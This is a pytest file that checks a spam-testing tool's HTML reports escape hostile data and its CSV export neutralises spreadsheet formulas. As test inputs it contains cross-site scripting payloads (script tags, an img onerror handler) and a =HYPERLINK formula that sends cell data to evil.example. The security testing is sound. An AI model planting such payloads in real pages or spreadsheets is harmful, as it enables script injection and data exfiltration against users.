"""The HTML reports escape everything: a run document is data (a recorded report.json
can come from anywhere), and so are a config's and a log's words. Every string field of
a run is made hostile (Hypothesis): no ``<``, ``"`` or ``'`` from data reaches the run
page, the comparison or the budget's page unescaped, no element or attribute but the
page's own appears, and the only scripts are the page's (allowed by hash in its
Content-Security-Policy). The reproduction: ``X"><script>`` in verdicts, findings and
check statuses went into a ``class`` attribute as it was."""

from __future__ import annotations

import dataclasses
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hostile import hostile_text
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spamdrill import runmodel
from spamdrill.budget import model
from spamdrill.errors import SpamdrillError
from spamdrill.render import budget_html, compare, csvout, html, page

RUNS = Path(__file__).parent / "data" / "runs"
SENTINELS = ("Z<Z", 'Z"Z', "Z'Z")
# each field: hostile text around all three sentinels, so any of them found raw in the
# page is data that reached it unescaped
fields = st.tuples(hostile_text, hostile_text).map(lambda t: f"{t[0]}Z<Z\"Z'Z{t[1]}")

TAGS = {"html", "head", "meta", "title", "style", "script", "body", "h1", "h2", "h3", "p",
        "code", "table", "tr", "th", "td", "a", "span", "b", "section", "ul", "li",
        "details", "summary", "pre", "div"}
ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "class", "id", "href", "style",
              "type", "open"}


class Structure(HTMLParser):
    """Every element and attribute of a page, and its scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.hrefs: list[str] = []
        self.scripts: list[str] = []  # the type of each script element ("" for code)
        self.csp: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        values = dict(attrs)
        self.attributes |= {a for a in values if not a.startswith("data-")}
        if tag == "a":
            self.hrefs.append(values.get("href") or "")
        if tag == "script":
            self.scripts.append(values.get("type") or "")
        if tag == "meta" and values.get("http-equiv") == "Content-Security-Policy":
            self.csp.append(values.get("content") or "")


def assert_escaped(text: str, plots: int) -> None:
    for s in SENTINELS:
        assert s not in text, (s, text[max(0, text.find(s) - 300):text.find(s) + 100])
    found = Structure()
    found.feed(text)
    assert found.tags <= TAGS, found.tags - TAGS
    assert found.attributes <= ATTRIBUTES, found.attributes - ATTRIBUTES
    assert all(h.startswith("#") for h in found.hrefs), found.hrefs
    code = [t for t in found.scripts if t != "application/json"]
    assert len(code) == (3 if plots else 0), found.scripts  # Bokeh (2) and the drawing
    assert found.scripts.count("application/json") == plots
    [csp] = found.csp
    assert "default-src 'none'" in csp and "unsafe-inline" not in csp.split("style-src")[0]


# the vocabulary's words: validated when a document is read (an unknown one is refused,
# test_the_reproduction_runs_no_script), so they stay as recorded
VOCABULARY = {"verdict", "finding", "status", "outcome", "fate", "mode", "fires_first"}


def hostile_document(name: str, texts: list[str]) -> dict[str, Any]:
    """The recorded run ``name`` with every string in it replaced, round robin, by
    ``texts`` (the vocabulary's words aside)."""
    doc = json.loads((RUNS / name / "report.json").read_text())
    counter = iter(range(10**9))

    def walk(x: Any, key: str = "") -> Any:
        if isinstance(x, dict):
            return {k: walk(v, k) for k, v in x.items()}
        if isinstance(x, list):
            return [walk(v, key) for v in x]
        if isinstance(x, str) and key not in VOCABULARY:
            return texts[next(counter) % len(texts)]
        return x
    return walk(doc)  # type: ignore[no-any-return]


def decoded(doc: dict[str, Any]) -> runmodel.Run:
    return runmodel.decode(json.dumps(doc).encode())


@pytest.mark.unit
def test_the_reproduction_runs_no_script() -> None:
    """Verdict, finding and check status of ``X"><script>...``: 13 live scripts on the
    field report before; now such a document is refused when read (the vocabulary's
    words are validated), and the same text anywhere else is escaped."""
    payload = "X\"><script>alert(1)</script>Z<Z\"Z'Z"
    doc = json.loads((RUNS / "before" / "report.json").read_text())
    sc = doc["scenarios"][0]
    for key, where in (("verdict", sc), ("finding", sc), ("status", sc["checks"][0])):
        with pytest.raises(SpamdrillError, match="not a spamdrill run document"):
            decoded({**doc, "scenarios": [{**sc, **({key: payload} if where is sc else
                                                    {"checks": [{**where, key: payload}]})}]})
    run = decoded(hostile_document("before", [payload]))
    text = html.run_page(run)
    assert "<script>alert" not in text
    assert_escaped(text, plots=sum(1 for _ in re.finditer(r'class="plot"', text)))


@pytest.mark.unit
@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(fields, min_size=1, max_size=6))
def test_run_page_escapes_every_field(texts: list[str]) -> None:
    run = decoded(hostile_document("before", texts))
    text = html.run_page(run)
    assert_escaped(text, plots=text.count('class="plot"'))


@pytest.mark.unit
@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(fields, min_size=1, max_size=4))
def test_compare_page_escapes_every_field(texts: list[str]) -> None:
    a = decoded(hostile_document("before", texts))
    b = decoded(hostile_document("after", texts))
    assert a.scenarios[0].name == b.scenarios[0].name  # the same scenario, compared
    text = html.compare_page(a, b, compare.compare(a, b))
    assert_escaped(text, plots=1)


@pytest.mark.unit
@settings(max_examples=2, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(fields, min_size=6, max_size=6))
def test_budget_page_escapes_every_field(texts: list[str]) -> None:
    """The budget's page shows config words (the wrapper, each limit's source file), the
    model's reasons and fixes (which quote config values) and notes."""
    setup = model.Setup(wrapper=texts[0], sources={"spamc -t": texts[1],
                                                   "maildrop": texts[2]})
    results = [dataclasses.replace(r, why=texts[3], fires_first=texts[4], outcome=texts[5],
                                   violations=[model.Violation(*texts[:3])],
                                   assumptions=[texts[3]])
               for r in model.evaluate(setup)[:2]]
    text = budget_html.page(setup, results, notes=list(texts))
    assert_escaped(text, plots=2)


@pytest.mark.unit
def test_a_word_outside_the_vocabulary_chooses_no_class() -> None:
    assert page.cls("delivers unscanned") == "delivers-unscanned"
    assert page.cls('x" onmouseover="1') == "unknown" and page.cls("a b<") == "unknown"


@pytest.mark.unit
def test_plot_json_cannot_end_its_script() -> None:
    from bokeh.plotting import figure

    p = figure(title="</script><script>alert(1)</script><!--'&")
    data = str(page.plot_json(p))
    assert not set("<>&'") & set(data)
    assert json.loads(data)["doc"]  # still the same JSON


@pytest.mark.unit
def test_csv_cells_are_never_formulas() -> None:
    """A spreadsheet runs a cell that starts with = + - @: a reason of
    ``=HYPERLINK(...)`` would be one. Such text starts with an apostrophe; numbers stay."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    run = decoded(hostile_document("before", [formula, "@SUM(1)", "-2+3", "+1", "\t=1"]))
    tables = csvout.rows(run)
    cells = [c for table in tables.values() for row in table for c in row]
    texts = [c for c in cells if isinstance(c, str) and c]
    assert texts and not [c for c in texts if c.startswith(csvout.FORMULA_START)
                          and not c.lstrip("+-").replace(".", "", 1).isdigit()]
    assert f"'{formula}" in texts and "'-2+3" in texts
    assert csvout._text("-1.5") == "-1.5" and csvout._text(3) == 3


# -- in chromium: the page draws, and its policy holds ---------------------------------------

PWNED = "<script>window.pwned = 1; alert('pwned')</script>"


@pytest.mark.lab
@pytest.mark.browser
def test_hostile_run_page_draws_and_runs_nothing_of_its_data(tmp_path: Path) -> None:
    """Every string of the run hostile: chromium opens it without an error, draws every
    plot, opens no dialog and runs no script of the data's."""
    from browser import open_report

    payload = "X\"><img src=x onerror=\"window.pwned=1\">" + PWNED + "'<!--"
    run = decoded(hostile_document("before", [payload, "[/x]" + PWNED]))
    where = tmp_path / "hostile.html"
    where.write_text(html.run_page(run))
    opened = open_report(where, tmp_path / "hostile.png", probe="() => window.pwned")
    assert opened.probe is None and opened.dialogs == []
    assert opened.console_errors == [] and opened.page_errors == [], opened.console_errors
    assert opened.network == []
    assert [s["drawn"] for s in opened.sections] == [s["expected"] for s in opened.sections]


@pytest.mark.lab
@pytest.mark.browser
def test_the_policy_stops_a_script_that_escaping_missed(tmp_path: Path) -> None:
    """Defence in depth: a script put into the page by hand (as a missed escape would)
    is refused by the page's Content-Security-Policy, and the page still draws."""
    from browser import open_report

    text = html.run_page(decoded(hostile_document("before", ["x"])))
    where = tmp_path / "injected.html"
    where.write_text(text.replace("<h1>", PWNED + "<h1>", 1))
    opened = open_report(where, probe="() => window.pwned")
    assert opened.probe is None and opened.dialogs == []
    assert any("Content Security Policy" in e for e in opened.console_errors), \
        opened.console_errors
    assert all(s["drawn"] == s["expected"] >= 1 for s in opened.sections)
